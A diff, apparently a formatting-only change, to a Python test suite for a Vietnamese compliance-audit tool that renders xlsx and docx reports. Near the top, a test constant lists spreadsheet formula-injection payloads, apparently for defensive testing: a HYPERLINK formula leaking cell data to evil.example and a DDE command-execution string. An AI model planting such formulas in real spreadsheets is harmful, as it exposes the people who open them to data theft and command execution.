@@ -29,10 +29,18 @@ from fourlayer.runner import CheckRun, Settings, run_check
 AS_OF = date(2026, 10, 15)
 HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-SUM(A1:A9)", "@cmd|' /C calc'!A0")
 SETTINGS = ReportSettings(
-    issuing_parent="UBND tỉnh Nghệ An", issuing_body="Sở Khoa học và Công nghệ", symbol="SKHCN", number="125",
-    superior_body="Ủy ban nhân dân tỉnh Nghệ An", place="Nghệ An", date=date(2026, 10, 20),
-    signer_authority="KT. Giám đốc", signer_title="Phó Giám đốc", signer_name="Nguyễn Văn An",
-    recipients=("UBND tỉnh (để b/c)", "Công an tỉnh (để p/h)"), archive="VT, CNTT",
+    issuing_parent="UBND tỉnh Nghệ An",
+    issuing_body="Sở Khoa học và Công nghệ",
+    symbol="SKHCN",
+    number="125",
+    superior_body="Ủy ban nhân dân tỉnh Nghệ An",
+    place="Nghệ An",
+    date=date(2026, 10, 20),
+    signer_authority="KT. Giám đốc",
+    signer_title="Phó Giám đốc",
+    signer_name="Nguyễn Văn An",
+    recipients=("UBND tỉnh (để b/c)", "Công an tỉnh (để p/h)"),
+    archive="VT, CNTT",
 )
 
 
@@ -75,8 +83,11 @@ def check_run(province, checklist) -> CheckRun:
         if not run.evaluations:
             continue
         results = run.evaluations[0].results
-        if (any(p.outcome.value == "fail" for p in results) and any(p.answer and p.answer.due for p in results)
-                and any(p.answer and p.answer.note for p in results)):
+        if (
+            any(p.outcome.value == "fail" for p in results)
+            and any(p.answer and p.answer.due for p in results)
+            and any(p.answer and p.answer.note for p in results)
+        ):
             return run
     raise AssertionError("no generated agency has gaps, planned dates and notes")
 
@@ -95,8 +106,15 @@ def sheet_rows(sheet) -> list[dict[str, object]]:
 # --- xlsx ------------------------------------------------------------------------------
 def test_audit_workbook_has_every_sheet_a_row_per_agency_and_numbers_as_numbers(audit_run, tmp_path):
     book = workbook(audit_xlsx.render(audit_run, ReportOptions()), tmp_path)
-    assert book.sheetnames == ["Tổng hợp", "Bốn lớp", "Xếp hạng cơ quan", "Tiêu chí", "Kết quả theo tiêu chí",
-                               "Tệp lỗi", "Nộp báo cáo"]
+    assert book.sheetnames == [
+        "Tổng hợp",
+        "Bốn lớp",
+        "Xếp hạng cơ quan",
+        "Tiêu chí",
+        "Kết quả theo tiêu chí",
+        "Tệp lỗi",
+        "Nộp báo cáo",
+    ]
     agencies = sheet_rows(book["Xếp hạng cơ quan"])
     assert len(agencies) == 60 == len(audit_run.agencies)
     assert {row["Cơ quan"] for row in agencies} == {row.agency.name for row in audit_run.agencies}
@@ -113,7 +131,13 @@ def test_audit_workbook_has_every_sheet_a_row_per_agency_and_numbers_as_numbers(
     outcomes = sheet_rows(book["Kết quả theo tiêu chí"])
     assert len(outcomes) == 60 and set(outcomes[0]) >= {"L1.01", "L4.01"}
     assert {v for row in outcomes for k, v in row.items() if k.startswith("L")} <= {
-        "Đạt", "Đạt một phần", "Không đạt", "Được miễn trừ", "Không áp dụng", None}
+        "Đạt",
+        "Đạt một phần",
+        "Không đạt",
+        "Được miễn trừ",
+        "Không áp dụng",
+        None,
+    }
     controls = {row["Tiêu chí"]: row for row in sheet_rows(book["Tiêu chí"])}
     failing = sum(1 for r in audit_run.agencies if "L1.02" in r.failing_of(audit_run.checklist.ids))
     assert controls["L1.02"]["Số cơ quan không đạt"] == failing
@@ -148,7 +172,10 @@ def test_every_sheet_has_a_frozen_header_a_filter_and_set_widths(audit_run, chec
             assert sheet.column_dimensions["A"].width > 5, sheet.title
             # printed on A4 landscape, one page wide, the header repeated on every page
             assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9
-            assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth in (None, 1)  # 1: default
+            assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth in (
+                None,
+                1,
+            )  # 1: default
             assert int(sheet.page_setup.fitToHeight) == 0  # as many pages down as it takes
             assert sheet.print_title_rows == "$1:$1", sheet.print_title_rows
     results = workbook(check_xlsx.render(check_run, ReportOptions()), tmp_path)["Kết quả chi tiết"]
@@ -163,8 +190,15 @@ def test_every_sheet_has_a_frozen_header_a_filter_and_set_widths(audit_run, chec
 
 def test_workbook_headers_follow_the_language(audit_run, check_run, tmp_path):
     book = workbook(audit_xlsx.render(audit_run, ReportOptions(lang="en")), tmp_path)
-    assert book.sheetnames == ["Summary", "Layers", "Agencies ranked", "Controls", "Outcomes by control",
-                               "Files with errors", "Submissions"]
+    assert book.sheetnames == [
+        "Summary",
+        "Layers",
+        "Agencies ranked",
+        "Controls",
+        "Outcomes by control",
+        "Files with errors",
+        "Submissions",
+    ]
     first = sheet_rows(book["Agencies ranked"])[0]
     assert {"Rank", "Agency", "Score", "Verdict", "Layer 1 status"} <= set(first)
     assert first["Verdict"] in {"Compliant", "Partially compliant", "Non-compliant"}
@@ -188,11 +222,23 @@ def test_check_workbook_lists_every_control_and_target(check_run, tmp_path):
     results = sheet_rows(book["Kết quả chi tiết"])
     assert len(results) == len(item.results)
     assert [(r["Tiêu chí"], r["Kết quả"]) for r in results] == [
-        (p.control, {"pass": "Đạt", "partial": "Đạt một phần", "fail": "Không đạt", "waived": "Được miễn trừ",
-                     "not_applicable": "Không áp dụng"}[p.outcome.value]) for p in item.results]
+        (
+            p.control,
+            {
+                "pass": "Đạt",
+                "partial": "Đạt một phần",
+                "fail": "Không đạt",
+                "waived": "Được miễn trừ",
+                "not_applicable": "Không áp dụng",
+            }[p.outcome.value],
+        )
+        for p in item.results
+    ]
     gaps = [r for r in results if r["Kết quả"] == "Không đạt"]
     assert gaps and all(r["Lý do"] and r["Cần làm"] and r["Căn cứ"] for r in gaps)
-    assert any(p.answer and p.answer.due for p in item.results) and any(p.answer and p.answer.note for p in item.results)
+    assert any(p.answer and p.answer.due for p in item.results) and any(
+        p.answer and p.answer.note for p in item.results
+    )
     for row, pair in zip(results, item.results, strict=True):  # the officer's own words, dates as dates
         due = pair.answer.due if pair.answer else None
         assert row["Hạn hoàn thành"] == (None if due is None else datetime.combine(due, datetime.min.time()))
@@ -206,33 +252,55 @@ def test_both_check_documents_name_each_pair_s_target_alike(check_run, tmp_path)
     (item,) = check_run.evaluations
     systems = {s.id: s for s in item.systems}
     results = sheet_rows(workbook(check_xlsx.render(check_run, ReportOptions(lang="en")), tmp_path)["Results"])
-    expected = [("Agency", None, max(s.level for s in item.systems)) if p.system is None
-                else (p.system, systems[p.system].name, systems[p.system].level) for p in item.results]
+    expected = [
+        ("Agency", None, max(s.level for s in item.systems))
+        if p.system is None
+        else (p.system, systems[p.system].name, systems[p.system].level)
+        for p in item.results
+    ]
     assert [(r["Target"], r["System name"], r["Level"]) for r in results] == expected
     doc = document(check_docx.render(check_run, ReportOptions(lang="en")), tmp_path)
     gaps = next(table for table in doc.tables if [c.text for c in table.rows[0].cells][2:3] == ["Target"])
     shown = [row.cells[2].text for row in gaps.rows[1:]]
-    assert shown == [t if n is None else f"{t} ({n})" for p, (t, n, _) in zip(item.results, expected, strict=True)
-                     if p.outcome.value in ("fail", "partial")]
+    assert shown == [
+        t if n is None else f"{t} ({n})"
+        for p, (t, n, _) in zip(item.results, expected, strict=True)
+        if p.outcome.value in ("fail", "partial")
+    ]
     assert "Agency" in shown and any("(" in cell for cell in shown), "both kinds of target are shown"
 
 
 def test_both_workbooks_give_each_layer_a_status_and_a_score(audit_run, check_run, tmp_path):
     headers = [f"Layer {n} {what}" for n in (1, 2, 3, 4) for what in ("status", "score")]
-    for data, sheet, rows in ((check_xlsx.render(check_run, ReportOptions(lang="en")), "Summary",
-                               [e.layers for e in check_run.evaluations]),
-                              (audit_xlsx.render(audit_run, ReportOptions(lang="en")), "Agencies ranked",
-                               [row.layers for _, row in audit_run.ranking()])):
+    for data, sheet, rows in (
+        (check_xlsx.render(check_run, ReportOptions(lang="en")), "Summary", [e.layers for e in check_run.evaluations]),
+        (
+            audit_xlsx.render(audit_run, ReportOptions(lang="en")),
+            "Agencies ranked",
+            [row.layers for _, row in audit_run.ranking()],
+        ),
+    ):
         found = sheet_rows(workbook(data, tmp_path)[sheet])
         assert len(found) == len(rows)
         for row, layers in zip(found, rows, strict=True):
             by_number = {layer.layer: layer for layer in layers}
             assert [row[h] for h in headers] == [
-                value for n in (1, 2, 3, 4) for value in
-                ((None, None) if n not in by_number else
-                 ({"met": "Met", "partially_met": "Partially met", "not_met": "Not met",
-                   "not_applicable": "Not applicable"}[by_number[n].status.value],
-                  None if by_number[n].score is None else pytest.approx(by_number[n].score)))]
+                value
+                for n in (1, 2, 3, 4)
+                for value in (
+                    (None, None)
+                    if n not in by_number
+                    else (
+                        {
+                            "met": "Met",
+                            "partially_met": "Partially met",
+                            "not_met": "Not met",
+                            "not_applicable": "Not applicable",
+                        }[by_number[n].status.value],
+                        None if by_number[n].score is None else pytest.approx(by_number[n].score),
+                    )
+                )
+            ]
 
 
 def test_the_same_input_gives_the_same_bytes(audit_run, check_run):
@@ -270,8 +338,9 @@ def assert_decree_30_page(doc) -> None:
     normal = doc.styles["Normal"]
     assert normal.font.name == "Times New Roman" and 13 <= normal.font.size.pt <= 14
     fonts = {r.font.name for p in doc.paragraphs for r in p.runs}
-    fonts |= {r.font.name for t in doc.tables for row in t.rows for c in row.cells for p in c.paragraphs
-              for r in p.runs}
+    fonts |= {
+        r.font.name for t in doc.tables for row in t.rows for c in row.cells for p in c.paragraphs for r in p.runs
+    }
     assert fonts <= {None, "Times New Roman"}
     styles_xml = doc.styles.element.xml
     assert "Calibri" not in styles_xml and "Theme=" not in styles_xml.replace("w:themeColor", "")
@@ -281,10 +350,23 @@ def test_audit_docx_is_a_decree_30_report_listing_every_agency(audit_run, tmp_pa
     doc = document(audit_docx.render(audit_run, ReportOptions(document=SETTINGS)), tmp_path)
     assert_decree_30_page(doc)
     content = all_text(doc)
-    for expected in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "BÁO CÁO", "Nơi nhận:",
-                     "Số: 125/BC-SKHCN", "Nghệ An, ngày 20 tháng 10 năm 2026", "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
-                     "UBND TỈNH NGHỆ AN", "Kính gửi: Ủy ban nhân dân tỉnh Nghệ An.", "KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC",
-                     "Nguyễn Văn An", "- UBND tỉnh (để b/c);", "- Lưu: VT, CNTT.", "broken.yaml"):
+    for expected in (
+        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
+        "Độc lập - Tự do - Hạnh phúc",
+        "BÁO CÁO",
+        "Nơi nhận:",
+        "Số: 125/BC-SKHCN",
+        "Nghệ An, ngày 20 tháng 10 năm 2026",
+        "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
+        "UBND TỈNH NGHỆ AN",
+        "Kính gửi: Ủy ban nhân dân tỉnh Nghệ An.",
+        "KT. GIÁM ĐỐC",
+        "PHÓ GIÁM ĐỐC",
+        "Nguyễn Văn An",
+        "- UBND tỉnh (để b/c);",
+        "- Lưu: VT, CNTT.",
+        "broken.yaml",
+    ):
         assert expected in content, expected
     for row in audit_run.agencies:
         assert row.agency.name in content, row.agency.name
@@ -309,19 +391,33 @@ def test_check_docx_is_one_agency_s_report_to_its_superior(check_run, tmp_path):
     assert_decree_30_page(doc)
     content = all_text(doc)
     (item,) = check_run.evaluations
-    for expected in ("Độc lập - Tự do - Hạnh phúc", "BÁO CÁO", "Nơi nhận:", item.agency.name,
-                     "TỒN TẠI, HẠN CHẾ", "KẾ HOẠCH KHẮC PHỤC VÀ ĐỀ XUẤT"):
+    for expected in (
+        "Độc lập - Tự do - Hạnh phúc",
+        "BÁO CÁO",
+        "Nơi nhận:",
+        item.agency.name,
+        "TỒN TẠI, HẠN CHẾ",
+        "KẾ HOẠCH KHẮC PHỤC VÀ ĐỀ XUẤT",
+    ):
         assert expected in content, expected
     failing = {r.control for r in item.results if r.outcome.value == "fail"}
     assert failing and all(control in content for control in failing)
 
 
 def test_english_docx_is_a_translation(audit_run, check_run, tmp_path):
-    for data in (audit_docx.render(audit_run, ReportOptions(lang="en", document=SETTINGS)),
-                 check_docx.render(check_run, ReportOptions(lang="en", document=SETTINGS))):
+    for data in (
+        audit_docx.render(audit_run, ReportOptions(lang="en", document=SETTINGS)),
+        check_docx.render(check_run, ReportOptions(lang="en", document=SETTINGS)),
+    ):
         content = all_text(document(data, tmp_path))
-        for expected in ("SOCIALIST REPUBLIC OF VIET NAM", "Independence - Freedom - Happiness", "REPORT",
-                         "Recipients:", "No.: 125/BC-SKHCN", "Nghệ An, 20 October 2026"):
+        for expected in (
+            "SOCIALIST REPUBLIC OF VIET NAM",
+            "Independence - Freedom - Happiness",
+            "REPORT",
+            "Recipients:",
+            "No.: 125/BC-SKHCN",
+            "Nghệ An, 20 October 2026",
+        ):
             assert expected in content, expected
         assert "Nơi nhận" not in content and "Kính gửi" not in content
 
@@ -345,8 +441,9 @@ def test_both_reports_name_a_broken_file_s_first_problem_in_plain_words(audit_ru
     first = first_error(problems)
     assert first is not None and first.line is not None
     expected = f"- Tệp broken.yaml: không đọc được: tệp sai cấu trúc, không đọc được nội dung tại dòng {first.line}."
-    check = run_check([problems.source, *map(str, sorted(province.rglob("0*.yaml"))[:1])],
-                      Settings(checklist=checklist, as_of=AS_OF))
+    check = run_check(
+        [problems.source, *map(str, sorted(province.rglob("0*.yaml"))[:1])], Settings(checklist=checklist, as_of=AS_OF)
+    )
     for data in (audit_docx.render(audit_run, ReportOptions()), check_docx.render(check, ReportOptions())):
         content = all_text(document(data, tmp_path))
         assert expected in content.splitlines()
@@ -358,38 +455,55 @@ def test_settings_from_yaml_and_toml_agree(tmp_path):
     yaml_file = tmp_path / "bao-cao.yaml"
     yaml_file.write_text(
         'issuing_body: "Sở Khoa học và Công nghệ"\nsymbol: SKHCN\nnumber: 125\nplace: "Nghệ An"\n'
-        "date: 2026-10-20\nrecipients:\n  - UBND tỉnh\n  - Công an tỉnh\n", encoding="utf-8")
+        "date: 2026-10-20\nrecipients:\n  - UBND tỉnh\n  - Công an tỉnh\n",
+        encoding="utf-8",
+    )
     toml_file = tmp_path / "bao-cao.toml"
     toml_file.write_text(
         'issuing_body = "Sở Khoa học và Công nghệ"\nsymbol = "SKHCN"\nnumber = 125\nplace = "Nghệ An"\n'
-        'date = 2026-10-20\nrecipients = ["UBND tỉnh", "Công an tỉnh"]\n', encoding="utf-8")
+        'date = 2026-10-20\nrecipients = ["UBND tỉnh", "Công an tỉnh"]\n',
+        encoding="utf-8",
+    )
     loaded = [load_report_settings(str(f)) for f in (yaml_file, toml_file)]
     assert [item.findings for item in loaded] == [(), ()]
-    assert loaded[0].settings == loaded[1].settings == ReportSettings(
-        issuing_body="Sở Khoa học và Công nghệ", symbol="SKHCN", number="125", place="Nghệ An",
-        date=date(2026, 10, 20), recipients=("UBND tỉnh", "Công an tỉnh"))
+    assert (
+        loaded[0].settings
+        == loaded[1].settings
+        == ReportSettings(
+            issuing_body="Sở Khoa học và Công nghệ",
+            symbol="SKHCN",
+            number="125",
+            place="Nghệ An",
+            date=date(2026, 10, 20),
+            recipients=("UBND tỉnh", "Công an tỉnh"),
+        )
+    )
     merged = loaded[0].settings.merged(place="Hà Tĩnh", signer_name=None, recipients=())
     assert merged.place == "Hà Tĩnh" and merged.recipients == ("UBND tỉnh", "Công an tỉnh")
 
 
-@pytest.mark.parametrize(("name", "text", "expected"), [
-    ("typo.yaml", "issuing_body: X\nsigner_nmae: Y\n", [(2, 1, "settings-unknown-key")]),
-    ("date.yaml", "place: X\ndate: 31/09/2026\n", [(2, 7, "settings-bad-date")]),
-    ("list.yaml", "recipients: {a: 1}\n", [(1, 13, "settings-not-list")]),
-    ("text.yaml", "number: [1, 2]\nplace: true\n", [(1, 9, "settings-not-text"), (2, 8, "settings-not-text")]),
-    ("syntax.yaml", "place: [\n", None),
-    ("typo.toml", 'place = "X"\nsigner_nmae = "Y"\n', [(2, 1, "settings-unknown-key")]),
-    ("syntax.toml", 'place = "X\n', [(1, None, "settings-syntax")]),
-    ("date.toml", 'date = "hôm nay"\n', [(1, 1, "settings-bad-date")]),
-])
+@pytest.mark.parametrize(
+    ("name", "text", "expected"),
+    [
+        ("typo.yaml", "issuing_body: X\nsigner_nmae: Y\n", [(2, 1, "settings-unknown-key")]),
+        ("date.yaml", "place: X\ndate: 31/09/2026\n", [(2, 7, "settings-bad-date")]),
+        ("list.yaml", "recipients: {a: 1}\n", [(1, 13, "settings-not-list")]),
+        ("text.yaml", "number: [1, 2]\nplace: true\n", [(1, 9, "settings-not-text"), (2, 8, "settings-not-text")]),
+        ("syntax.yaml", "place: [\n", None),
+        ("typo.toml", 'place = "X"\nsigner_nmae = "Y"\n', [(2, 1, "settings-unknown-key")]),
+        ("syntax.toml", 'place = "X\n', [(1, None, "settings-syntax")]),
+        ("date.toml", 'date = "hôm nay"\n', [(1, 1, "settings-bad-date")]),
+    ],
+)
 def test_settings_file_errors_are_located(tmp_path, name, text, expected):
     path = tmp_path / name
     path.write_text(text, encoding="utf-8")
     loaded = load_report_settings(str(path))
     assert loaded.settings is None and loaded.findings
     if expected is not None:
-        got = [(f.line, f.column if expected[i][1] is not None else None, f.code)
-               for i, f in enumerate(loaded.findings)]
+        got = [
+            (f.line, f.column if expected[i][1] is not None else None, f.code) for i, f in enumerate(loaded.findings)
+        ]
         assert got == expected
     assert all(f.path == str(path) and f.line is not None for f in loaded.findings)
     assert all(f.message("vi") and f.message("en") for f in loaded.findings)
@@ -413,8 +527,21 @@ def soffice() -> str:
 
 
 def convert(program: str, files: list[Path], target: str, out: Path, profile: Path) -> None:
-    subprocess.run([program, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", target,
-                    "--outdir", str(out), *map(str, files)], check=True, capture_output=True, timeout=240)
+    subprocess.run(
+        [
+            program,
+            f"-env:UserInstallation=file://{profile}",
+            "--headless",
+            "--convert-to",
+            target,
+            "--outdir",
+            str(out),
+            *map(str, files),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=240,
+    )
 
 
 def test_libreoffice_reads_the_audit_workbook(audit_run, tmp_path):
@@ -422,8 +549,13 @@ def test_libreoffice_reads_the_audit_workbook(audit_run, tmp_path):
     path = tmp_path / "ra-soat.xlsx"
     path.write_bytes(audit_xlsx.render(audit_run, ReportOptions()))
     # UTF-8 CSV of the third sheet (agencies ranked): separator, quote, charset, first line, …, sheet
-    convert(program, [path], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3",
-            tmp_path / "out", tmp_path / "profile")
+    convert(
+        program,
+        [path],
+        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3",
+        tmp_path / "out",
+        tmp_path / "profile",
+    )
     (csv_file,) = (tmp_path / "out").glob("*.csv")
     import csv
 
@@ -439,8 +571,11 @@ def test_libreoffice_reads_the_audit_workbook(audit_run, tmp_path):
 @pytest.fixture(scope="module")
 def settings_file(tmp_path_factory) -> Path:
     path = tmp_path_factory.mktemp("settings") / "bao-cao.toml"
-    path.write_text('issuing_body = "Sở Khoa học và Công nghệ"\nsymbol = "SKHCN"\nplace = "Nghệ An"\n'
-                    'date = 2026-10-20\nsigner_title = "Giám đốc"\nsigner_name = "Lê Thị C"\n', encoding="utf-8")
+    path.write_text(
+        'issuing_body = "Sở Khoa học và Công nghệ"\nsymbol = "SKHCN"\nplace = "Nghệ An"\n'
+        'date = 2026-10-20\nsigner_title = "Giám đốc"\nsigner_name = "Lê Thị C"\n',
+        encoding="utf-8",
+    )
     return path
 
 
@@ -449,8 +584,9 @@ def test_audit_xlsx_through_the_cli_is_byte_identical_run_after_run(province, tm
 
     written = [tmp_path / "a.xlsx", tmp_path / "b.xlsx"]
     for path in written:
-        result = run_cli(["audit", province, "--as-of", AS_OF.isoformat(), "--format", "xlsx", "-o", path,
-                          "--jobs", "2"])
+        result = run_cli(
+            ["audit", province, "--as-of", AS_OF.isoformat(), "--format", "xlsx", "-o", path, "--jobs", "2"]
+        )
         assert result.exit_code == 1, result.stderr  # a broken file and non-compliant agencies
         assert result.stdout_bytes == b""
     assert written[0].read_bytes() == written[1].read_bytes()
@@ -466,33 +602,62 @@ def test_docx_through_the_cli_takes_the_settings_file_and_options(province, audi
     from conftest import run_cli
 
     audit_file, check_file = tmp_path / "ra-soat.docx", tmp_path / "tu-danh-gia.docx"
-    result = run_cli(["audit", province, "--as-of", AS_OF.isoformat(), "--format", "docx", "-o", audit_file,
-                      "--report-settings", settings_file, "--signer-name", "Phạm Văn D", "--recipient", "UBND tỉnh",
-                      "--recipient", "Công an tỉnh", "--superior-body", "Ủy ban nhân dân tỉnh Nghệ An"])
+    result = run_cli(
+        [
+            "audit",
+            province,
+            "--as-of",
+            AS_OF.isoformat(),
+            "--format",
+            "docx",
+            "-o",
+            audit_file,
+            "--report-settings",
+            settings_file,
+            "--signer-name",
+            "Phạm Văn D",
+            "--recipient",
+            "UBND tỉnh",
+            "--recipient",
+            "Công an tỉnh",
+            "--superior-body",
+            "Ủy ban nhân dân tỉnh Nghệ An",
+        ]
+    )
     assert result.exit_code == 1, result.stderr
     doc = docx.Document(str(audit_file))
     assert_decree_30_page(doc)
     content = all_text(doc)
-    for expected in ("Độc lập - Tự do - Hạnh phúc", "BÁO CÁO", "Nơi nhận:", "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
-                     "Nghệ An, ngày 20 tháng 10 năm 2026", "Phạm Văn D", "- UBND tỉnh;", "- Công an tỉnh;",
-                     "Kính gửi: Ủy ban nhân dân tỉnh Nghệ An."):
+    for expected in (
+        "Độc lập - Tự do - Hạnh phúc",
+        "BÁO CÁO",
+        "Nơi nhận:",
+        "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
+        "Nghệ An, ngày 20 tháng 10 năm 2026",
+        "Phạm Văn D",
+        "- UBND tỉnh;",
+        "- Công an tỉnh;",
+        "Kính gửi: Ủy ban nhân dân tỉnh Nghệ An.",
+    ):
         assert expected in content, expected
     assert "Lê Thị C" not in content, "an option wins over the file"
     missing = [row.agency.name for row in audit_run.agencies if row.agency.name not in content]
     assert len(audit_run.agencies) == 60 and missing == []
     one = sorted(province.rglob("0*.yaml"))[1]
-    result = run_cli(["check", one, "--as-of", AS_OF.isoformat(), "--format", "docx", "-o", check_file,
-                      "--lang", "en"])
+    result = run_cli(["check", one, "--as-of", AS_OF.isoformat(), "--format", "docx", "-o", check_file, "--lang", "en"])
     assert result.exit_code in (0, 1), result.stderr
     content = all_text(docx.Document(str(check_file)))
     assert "SOCIALIST REPUBLIC OF VIET NAM" in content and "Recipients:" in content and "REPORT" in content
 
 
-@pytest.mark.parametrize(("extra", "expected"), [
-    (["--format", "json", "--place", "Nghệ An"], "chỉ dùng với --format docx: thêm --format docx -o"),
-    (["--format", "docx", "-o", "{tmp}/x.docx", "--report-settings", "{tmp}/bad.yaml"], "bad.yaml:2:1"),
-    (["--format", "docx", "-o", "{tmp}/x.docx", "--report-settings", "{tmp}/missing.yaml"], "missing.yaml"),
-])
+@pytest.mark.parametrize(
+    ("extra", "expected"),
+    [
+        (["--format", "json", "--place", "Nghệ An"], "chỉ dùng với --format docx: thêm --format docx -o"),
+        (["--format", "docx", "-o", "{tmp}/x.docx", "--report-settings", "{tmp}/bad.yaml"], "bad.yaml:2:1"),
+        (["--format", "docx", "-o", "{tmp}/x.docx", "--report-settings", "{tmp}/missing.yaml"], "missing.yaml"),
+    ],
+)
 def test_report_settings_problems_stop_the_command_before_writing(province, tmp_path, extra, expected):
     from conftest import run_cli
 
@@ -510,9 +675,15 @@ def test_a_binary_format_on_a_terminal_is_refused_before_any_work(province, fmt)
 
     leader, follower = pty.openpty()
     try:
-        done = subprocess.run([*FOURLAYER, "audit", str(province), "--format", fmt],
-                              stdout=follower, stderr=subprocess.PIPE, text=True, timeout=120, check=False,
-                              env={**os.environ, "FOURLAYER_LANG": "vi"})
+        done = subprocess.run(
+            [*FOURLAYER, "audit", str(province), "--format", fmt],
+            stdout=follower,
+            stderr=subprocess.PIPE,
+            text=True,
+            timeout=120,
+            check=False,
+            env={**os.environ, "FOURLAYER_LANG": "vi"},
+        )
     finally:
         os.close(follower)
         os.close(leader)
@@ -523,12 +694,15 @@ def test_a_binary_format_on_a_terminal_is_refused_before_any_work(province, fmt)
 
 # --- writing bytes ---------------------------------------------------------------------------
 def _write_bytes_with_stdout(stdout) -> subprocess.CompletedProcess[str]:
-    code = ("import sys\nfrom fourlayer.errors import UserError\nfrom fourlayer.output import write_report\n"
-            "try:\n    write_report(b'PK\\x03\\x04 binary', None)\n"
-            "except UserError as error:\n    sys.stderr.write(error.key)\n    sys.exit(2)\n")
+    code = (
+        "import sys\nfrom fourlayer.errors import UserError\nfrom fourlayer.output import write_report\n"
+        "try:\n    write_report(b'PK\\x03\\x04 binary', None)\n"
+        "except UserError as error:\n    sys.stderr.write(error.key)\n    sys.exit(2)\n"
+    )
 
-    return subprocess.run([*PYTHON, "-c", code], stdout=stdout, stderr=subprocess.PIPE, text=True,
-                          timeout=60, check=False)
+    return subprocess.run(
+        [*PYTHON, "-c", code], stdout=stdout, stderr=subprocess.PIPE, text=True, timeout=60, check=False
+    )
 
 
 def test_bytes_are_never_written_to_a_terminal():
@@ -576,9 +750,12 @@ def test_the_settings_files_in_the_docs_are_valid(tmp_path):
     assert loaded[("yaml", 0)].issuing_body == "Sở Khoa học và Công nghệ"
     assert loaded[("yaml", 0)].date == date(2026, 10, 20)
     assert [(s.issuing_body, s.date) for k, s in loaded.items() if k[0] == "toml"] == [
-        ("Sở Y tế", date(2026, 12, 15)), ("Ủy ban nhân dân xã Kỳ Anh", date(2026, 12, 15))]
-    assert (Path(__file__).parent.parent / "docs" / "images" / "audit-docx-first-page.png").read_bytes()[:4] == \
-        b"\x89PNG"
+        ("Sở Y tế", date(2026, 12, 15)),
+        ("Ủy ban nhân dân xã Kỳ Anh", date(2026, 12, 15)),
+    ]
+    assert (Path(__file__).parent.parent / "docs" / "images" / "audit-docx-first-page.png").read_bytes()[
+        :4
+    ] == b"\x89PNG"
 
 
 def test_the_commands_in_the_docs_make_the_header_they_promise(tmp_path):
@@ -590,11 +767,16 @@ def test_the_commands_in_the_docs_make_the_header_they_promise(tmp_path):
     from conftest import ROOT, run_cli
 
     page = (ROOT / "docs" / "reports.md").read_text(encoding="utf-8")
-    commands = [block.replace("\\\n", " ") for block in re.findall(r"```sh\n(.*?)```", page, flags=re.S)
-                if "--signer-authority" in block]
+    commands = [
+        block.replace("\\\n", " ")
+        for block in re.findall(r"```sh\n(.*?)```", page, flags=re.S)
+        if "--signer-authority" in block
+    ]
     assert len(commands) == 2
-    expected = [("UBND TỈNH HÀ TĨNH", "SỞ Y TẾ", "Số: …………/BC-SYT", "KT. GIÁM ĐỐC"),
-                ("ỦY BAN NHÂN DÂN XÃ KỲ ANH", None, "Số: …………/BC-UBND", "TM. ỦY BAN NHÂN DÂN")]
+    expected = [
+        ("UBND TỈNH HÀ TĨNH", "SỞ Y TẾ", "Số: …………/BC-SYT", "KT. GIÁM ĐỐC"),
+        ("ỦY BAN NHÂN DÂN XÃ KỲ ANH", None, "Số: …………/BC-UBND", "TM. ỦY BAN NHÂN DÂN"),
+    ]
     for command, (first, second, number, authority) in zip(commands, expected, strict=True):
         args = shlex.split(command)[1:]
         args[args.index("tu-danh-gia.xlsx")] = str(ROOT / "examples" / "so-y-te-nghe-an.yaml")
@@ -622,10 +804,14 @@ def test_the_round_in_the_workbook_and_the_report(tmp_path):
     text = files[1].read_text(encoding="utf-8").replace("assessed_on: 2026-09-30", "assessed_on: 2026-03-31")
     files[1].write_text(text, encoding="utf-8")
     roster = tmp_path / "danh-sach.csv"
-    names = [(p.read_text(encoding="utf-8").split('  code: "', 1)[1].split('"', 1)[0],
-              p.read_text(encoding="utf-8").split('  name: "', 1)[1].split('"', 1)[0]) for p in files]
-    roster.write_text("code,name\n" + "".join(f"{c},{n}\n" for c, n in names) + ",UBND xã Chưa Nộp\n",
-                      encoding="utf-8")
+    names = [
+        (
+            p.read_text(encoding="utf-8").split('  code: "', 1)[1].split('"', 1)[0],
+            p.read_text(encoding="utf-8").split('  name: "', 1)[1].split('"', 1)[0],
+        )
+        for p in files
+    ]
+    roster.write_text("code,name\n" + "".join(f"{c},{n}\n" for c, n in names) + ",UBND xã Chưa Nộp\n", encoding="utf-8")
     common = ["audit", folder, "--as-of", AS_OF.isoformat(), "--roster", roster, "--since", "2026-07-01"]
     book_file, report_file = tmp_path / "r.xlsx", tmp_path / "r.docx"
     for fmt, path in (("xlsx", book_file), ("docx", report_file)):
@@ -636,7 +822,8 @@ def test_the_round_in_the_workbook_and_the_report(tmp_path):
     statuses = [(row["Tình trạng"], row["Cơ quan"]) for row in rows]
     assert ("Chưa nộp", "UBND xã Chưa Nộp") in statuses
     assert [r["Tệp"] for r in rows if r["Tình trạng"] == "Nộp trùng (cùng nội dung)"] == [
-        str(files[0].with_name(files[0].stem + " (1).yaml"))]
+        str(files[0].with_name(files[0].stem + " (1).yaml"))
+    ]
     assert [r["Cơ quan"] for r in rows if r["Tình trạng"] == "Bản tự đánh giá cũ"] == [names[1][1]]
     assert len(sheet_rows(book["Xếp hạng cơ quan"])) == 5, "the duplicate is not ranked"
     summary = {row["Nội dung"]: row["Giá trị"] for row in sheet_rows(book["Tổng hợp"])}
@@ -651,30 +838,75 @@ def test_check_report_of_two_checklist_versions_has_one_part_per_agency(tmp_path
     from conftest import ROOT, run_cli
 
     target = tmp_path / "hai-co-quan.docx"
